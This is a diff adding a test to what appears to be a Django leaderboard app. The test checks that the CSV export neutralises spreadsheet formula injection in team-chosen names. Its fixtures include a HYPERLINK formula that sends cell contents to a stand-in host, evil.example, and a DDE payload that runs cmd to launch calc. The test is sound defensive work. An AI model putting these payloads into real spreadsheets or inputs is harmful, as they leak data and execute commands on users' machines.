@@ -260,3 +260,20 @@ def test_cached_table_keeps_team_links_per_viewer(client, computed, participant)
     assert alice_link in client.get(url).content.decode()
     client.logout()
     assert alice_link not in client.get(url).content.decode()
+
+
+def test_csv_neutralises_formulas_in_team_chosen_names(client, computed):
+    set_phase(computed.competition, "closed")
+    bot = computed.competition.bots.get(name="alice")
+    bot.name = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    bot.save(update_fields=["name"])
+    bot.team.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    bot.team.save(update_fields=["name"])
+    competition_recompute(competition_id=computed.competition.pk)
+
+    response = client.get(reverse("leaderboard-csv", kwargs={"slug": computed.competition.slug}))
+
+    first = next(csv.DictReader(io.StringIO(response.content.decode())))
+    assert first["bot_name"] == "'" + bot.name
+    assert first["team_name"] == "'" + bot.team.name
+    assert first["rank"] == "1"  # numbers stay numbers
